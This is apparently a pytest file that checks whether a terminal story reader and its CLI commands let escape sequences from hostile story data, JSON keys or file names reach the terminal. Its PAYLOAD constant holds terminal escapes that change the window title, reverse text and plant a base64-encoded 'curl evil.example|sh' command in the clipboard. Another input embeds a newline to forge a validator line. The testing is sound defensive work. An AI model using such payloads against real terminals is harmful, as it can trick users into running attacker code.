"""The bytes that reach a real terminal: nothing from a story may be obeyed there.

These tests run the reader and every command on a pseudo-terminal over hostile data
(a story whose every field carries escape sequences, hostile JSON keys, hostile file
names) and read the raw bytes written, not the rendered screen. Any OSC, DCS, stray
ESC, C1, NUL or bidirectional control that came from the data fails them.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

from terminal import Pty, judge, run_on_pty, scratch_environment

HERE = Path(__file__).resolve().parent
HOSTILE = HERE / "data" / "hostile.json"
PAYLOAD = "\x1b]2;PWNED\x1b\\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\\u202e\x9b2J"
"""Sets the window title, writes `curl evil.example|sh` to the clipboard, reverses text."""

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="needs a POSIX pty")


def _keys(text: str) -> list[bytes]:
    return [char.encode() for char in text]


ESCAPE = b"\x1b"
F1 = b"\x1bOP"
CTRL_P = b"\x10"
CTRL_Q = b"\x11"
DOWN = b"\x1b[B"
CTRL_RIGHT = b"\x1b[1;5C"
SHIFT_DOWN = b"\x1b[1;2B"


def test_reader_every_row_of_every_pane_writes_nothing_from_the_story(tmp_path: Path) -> None:
    """Highlight every row of every list, open details, help, the palette and copy."""
    story = json.loads(HOSTILE.read_text(encoding="utf-8"))
    rows = len(story["speakers"]) + len(story["quotes"]) + 4
    terminal = Pty(
        [sys.executable, "-m", "smareader", str(HOSTILE)], env=scratch_environment(tmp_path)
    )
    try:
        assert terminal.wait_for(b"Timeline"), "the reader did not start"
        # Timeline: every row, including the publication-day marker.
        terminal.press([b"1", *_keys("j" * 6), *_keys("k" * 6)])
        # Quotes: every speaker, then every quote of all speakers, each one copied.
        terminal.press([b"2", *_keys("j" * rows), b"g", b"\t"])
        for _ in range(len(story["quotes"]) + 1):
            terminal.press([b"y", b"j"])
        terminal.press([b"\r"], settle=0.3)  # jump to source, and back
        terminal.press([ESCAPE], settle=0.3)
        # Costs: every row of every list, and a jump to source.
        terminal.press([b"3", *_keys("jjj"), b"\t", *_keys("jjj"), b"\t", *_keys("jjj")])
        terminal.press([b"s"], settle=0.3)
        terminal.press([ESCAPE], settle=0.3)
        # Article: every anchored span in turn, then open one.
        terminal.press([b"4", *_keys("n" * (len(story["quotes"]) + 6))])
        terminal.press([b"\r"], settle=0.3)
        # Help, the palette with every hit highlighted, and a search.
        terminal.press([F1], settle=0.4)
        terminal.press([ESCAPE], settle=0.3)
        terminal.press([CTRL_P], settle=0.4)
        terminal.press([DOWN] * (len(story["speakers"]) + 4))
        terminal.press([ESCAPE], settle=0.3)
        terminal.press([b"/", *_keys("PWNED")])
        terminal.press([ESCAPE], settle=0.3)
        terminal.press([CTRL_Q], settle=0.5)
        terminal.wait_for_exit()  # quits by itself, however loaded the machine
    finally:
        code = terminal.close()
    output = bytes(terminal.output)
    verdict = judge(output, allow_clipboard=True)
    assert verdict.problems == []
    # The payloads were drawn, as visible characters, and the quotes were copied.
    assert "␛]2;PWNED".encode() in output
    assert len(verdict.clipboard) >= len(story["quotes"])
    assert any("PWNED" in text for text in verdict.clipboard)
    assert code == 0


def test_review_mode_writes_nothing_from_the_story(tmp_path: Path) -> None:
    """A hostile draft in review mode: marks, rules, the speaker picker and the event form."""
    story = json.loads(HOSTILE.read_text(encoding="utf-8"))
    items = [*story["quotes"], *story["events"], *story["costs"]["figures"]]
    items += story["costs"]["categories"]
    for number, item in enumerate(items):
        item.update(review="pending", rule=f"rule{PAYLOAD}"[:80], confidence=number / 100)
    draft = tmp_path / "draft.json"
    draft.write_text(json.dumps(story), encoding="utf-8")
    terminal = Pty(
        [sys.executable, "-m", "smareader", str(draft)], env=scratch_environment(tmp_path)
    )
    try:
        assert terminal.wait_for(b"Accept"), "the draft did not open in review mode"
        terminal.press([b"1", *_keys("j" * 4)])
        terminal.press([b"e"], settle=0.4)  # the event form
        terminal.press([ESCAPE], settle=0.3)
        terminal.press([b"2", b"\t", *_keys("j" * (len(story["quotes"]) + 1))])
        terminal.press([b"e"], settle=0.4)  # the speaker picker, every speaker listed
        terminal.press([DOWN] * (len(story["speakers"]) + 2))
        terminal.press([ESCAPE], settle=0.3)
        terminal.press([b"3", *_keys("jj"), b"e"], settle=0.4)  # the cost form
        terminal.press([ESCAPE], settle=0.3)
        # The Article: select the hostile paragraphs (drawn, and quoted in the status
        # line), copy the selection, and start adding it as a quote.
        terminal.press([b"4", *_keys("nnnn"), b"v", CTRL_RIGHT, CTRL_RIGHT], settle=0.3)
        terminal.press([SHIFT_DOWN] * 6, settle=0.3)
        terminal.press([b"y"], settle=0.3)
        terminal.press([b"Q"], settle=0.4)  # the speaker picker, for the new quote
        terminal.press([ESCAPE], settle=0.3)
        terminal.press([CTRL_Q], settle=0.5)  # no edit was made: nothing to ask
        terminal.wait_for_exit()  # quits by itself, however loaded the machine
    finally:
        code = terminal.close()
    output = bytes(terminal.output)
    verdict = judge(output, allow_clipboard=True)
    assert verdict.problems == []
    assert "rule␛]2;PWNED".encode() in output  # the rule was drawn, inert
    assert b"Selected " in output
    assert verdict.clipboard and "␛" in verdict.clipboard[-1]  # the selection, inert
    assert code == 0


def _hostile_files(tmp_path: Path) -> dict[str, Path]:
    """Story files that try to reach the terminal through every kind of message."""
    folder = tmp_path / f"in{PAYLOAD}dir"
    folder.mkdir()
    story = json.loads(HOSTILE.read_text(encoding="utf-8"))
    valid = folder / f"story{PAYLOAD}.json"
    valid.write_text(json.dumps(story), encoding="utf-8")

    keys: dict[str, Any] = json.loads(json.dumps(story))
    keys["quotes"][0][PAYLOAD] = 1
    keys["quotes"][1]["x\nfake.json: valid: all fine"] = 2
    keys["story"]["title"] = PAYLOAD * 300  # too long, and quoted back cut
    bad_keys = folder / "keys.json"
    bad_keys.write_text(json.dumps(keys), encoding="utf-8")

    duplicate = folder / "duplicate.json"
    duplicate.write_text('{"schema_version": 1, "' + PAYLOAD + '": 1, "' + PAYLOAD + '": 2}')

    draft: dict[str, Any] = json.loads(json.dumps(story))
    for quote in draft["quotes"]:
        del quote["start"], quote["end"]
    draft["quotes"][0]["text"] = "not in the text " + PAYLOAD
    missing = folder / "draft.json"
    missing.write_text(json.dumps(draft), encoding="utf-8")

    article = folder / f"article{PAYLOAD}.txt"
    article.write_text(
        f"“We will not pay {PAYLOAD},” said Jane Roe{PAYLOAD} on Monday.\n\n"
        f"The {PAYLOAD} ministry said costs rose to $5 billion.\n",
        encoding="utf-8",
    )
    return {
        "valid": valid,
        "keys": bad_keys,
        "duplicate": duplicate,
        "draft": missing,
        "article": article,
    }


@pytest.mark.parametrize(
    "command",
    [
        ["validate", "{valid}", "{keys}", "{duplicate}", "{draft}"],
        ["export", "{valid}", "--format", "json"],
        ["export", "{valid}", "--format", "csv"],
        ["export", "{valid}", "--format", "markdown"],
        ["export", "{keys}"],
        ["export", "{valid}", "-o", "{folder}"],
        ["export", "{valid}", "-o", "{folder}/out{payload}.csv", "--format", "csv"],
        ["anchor", "{draft}"],
        ["anchor", "{keys}"],
        ["anchor", "{valid}"],
        ["extract", "{article}", "--published", "2020-01-08"],
        ["extract", "{article}", "--published", "2020-01-08", "--url", "x{payload}"],
        ["{keys}"],
        ["add", "{valid}", "{keys}", "{duplicate}", "--library", "{folder}/lib.sqlite3"],
    ],
    ids=lambda argv: " ".join(argv)[:40],
)
def test_every_command_writes_nothing_from_the_data(tmp_path: Path, command: list[str]) -> None:
    files = _hostile_files(tmp_path)
    names = {name: str(path) for name, path in files.items()}
    names.update(folder=str(files["valid"].parent), payload=PAYLOAD)
    argv = [part.format(**names) for part in command]
    code, output = run_on_pty(
        [sys.executable, "-m", "smareader", *argv], env=scratch_environment(tmp_path)
    )
    verdict = judge(output)
    assert verdict.problems == [], output[-2000:]
    assert b"Traceback" not in output
    assert code in {0, 1, 2}
    lines = output.decode("utf-8", "replace").splitlines()
    assert not any(line.startswith("fake.json: valid") for line in lines)


def test_a_newline_in_a_key_cannot_forge_a_line(tmp_path: Path) -> None:
    files = _hostile_files(tmp_path)
    code, output = run_on_pty(
        [sys.executable, "-m", "smareader", "validate", str(files["keys"])],
        env=scratch_environment(tmp_path),
    )
    assert code == 1
    text = output.decode("utf-8")
    assert "x\\nfake.json: valid: all fine" in text
    assert all(line.startswith(str(files["keys"].parent)[:10]) for line in text.splitlines())


def test_judge_catches_what_it_must() -> None:
    """The judge itself: each kind of escape from the data is reported."""
    for bad in [
        b"\x1b]2;PWNED\x07",
        b"\x1b]52;c;\x07\x1b]8;;https://x\x1b\\",
        b"\x1bPq\x1b\\",
        "\u202e".encode(),
        "\x9b2J".encode(),
        b"a\x00b",
        b"\x1bc",
        b"clear \x1b[2J\x1b[H screen",
    ]:
        assert judge(b"\x1b[1mok\x1b[0m" + bad).problems, bad
    assert not judge(b"\x1b[?1049h\x1b[38;2;1;2;3mtext\x1b]22;default\x07\r\n").problems


def test_library_reader_every_row_of_every_pane_writes_nothing_from_the_story(
    tmp_path: Path,
) -> None:
    """The hostile story read through a library (``smareader FOLDER``): every row of
    every pane highlighted, every quote copied, the article shown, a search, help and
    the palette."""
    story = json.loads(HOSTILE.read_text(encoding="utf-8"))
    folder = tmp_path / "shelf"
    folder.mkdir()
    (folder / "hostile.json").write_text(json.dumps(story), encoding="utf-8")
    rows = len(story["speakers"]) + len(story["quotes"]) + len(story["events"]) + 8
    terminal = Pty(
        [sys.executable, "-m", "smareader", str(folder)], env=scratch_environment(tmp_path)
    )
    try:
        assert terminal.wait_for(b"Stories"), "the library reader did not start"
        terminal.press([b"1", *_keys("j" * 3), b"o"], settle=0.8)  # open it in full
        terminal.press([ESCAPE], settle=0.4)
        terminal.press([b"2", *_keys("yj" * rows)])  # timeline: every row, each copied
        terminal.press([b"\r"], settle=0.3)  # its article
        terminal.press([ESCAPE], settle=0.3)
        terminal.press([b"3", b"\x1b[Z", *_keys("j" * rows), b"g", b"\t"])  # speakers
        for _ in range(len(story["quotes"]) + 1):
            terminal.press([b"y", b"j"])
        terminal.press([b"\r"], settle=0.3)
        terminal.press([b"4", *_keys("yj" * rows), b"b", *_keys("yj" * rows)])  # costs, copied
        terminal.press([b"\r"], settle=0.3)
        terminal.press([F1], settle=0.4)
        terminal.press([ESCAPE], settle=0.3)
        # The palette: every story and speaker hit highlighted, then an event found by its
        # words, highlighted and shown in its article.
        terminal.press([CTRL_P], settle=0.5)
        terminal.press([DOWN] * (len(story["speakers"]) + 8))
        terminal.press([ESCAPE], settle=0.3)
        terminal.press([CTRL_P, *_keys("event title")], settle=0.6)
        terminal.press([DOWN, DOWN, b"\r"], settle=0.5)
        terminal.press([b"/", *_keys("PWNED")], settle=0.4)
        terminal.press([ESCAPE], settle=0.3)
        terminal.press([CTRL_Q], settle=0.5)
        terminal.wait_for_exit()  # quits by itself, however loaded the machine
    finally:
        code = terminal.close()
    output = bytes(terminal.output)
    verdict = judge(output, allow_clipboard=True)
    assert verdict.problems == []
    assert "␛]2;PWNED".encode() in output  # drawn, inert
    assert len(verdict.clipboard) >= len(story["quotes"])
    assert code == 0


def test_a_folder_of_bad_files_names_them_inertly_in_the_reader_and_after(
    tmp_path: Path,
) -> None:
    """``smareader FOLDER`` where the folder, a good story and the bad files' names and
    keys carry escape sequences: the reader's notice of the bad files, and the list
    printed when it closes, draw them as characters and obey none."""
    files = _hostile_files(tmp_path)
    (files["valid"].parent / f"bad{PAYLOAD}.json").write_text("{", encoding="utf-8")
    terminal = Pty(
        [sys.executable, "-m", "smareader", str(files["valid"].parent)],
        env=scratch_environment(tmp_path),
    )
    try:
        assert terminal.wait_for(b"Stories"), "the library reader did not start"
        assert terminal.wait_for(b"cannot be read"), "no notice of the bad files"
        terminal.press([b"j", b"o"], settle=0.8)  # the good story, in full
        terminal.press([ESCAPE], settle=0.4)
        terminal.press([CTRL_Q], settle=0.5)
        terminal.wait_for_exit()
    finally:
        code = terminal.close()
    output = bytes(terminal.output)
    verdict = judge(output)
    assert verdict.problems == [], output[-2000:]
    assert b"Traceback" not in output
    after = output.rsplit(b"\x1b[?1049l", 1)[-1]  # once the reader's screen is gone
    assert b"keys.json" in after and b"bad\\x1b]2;PWNED" in after  # as the CLI escapes it
    assert b"\\x1b]2;PWNED" in output[: -len(after)]  # the notice names them, escaped
    assert code == 0
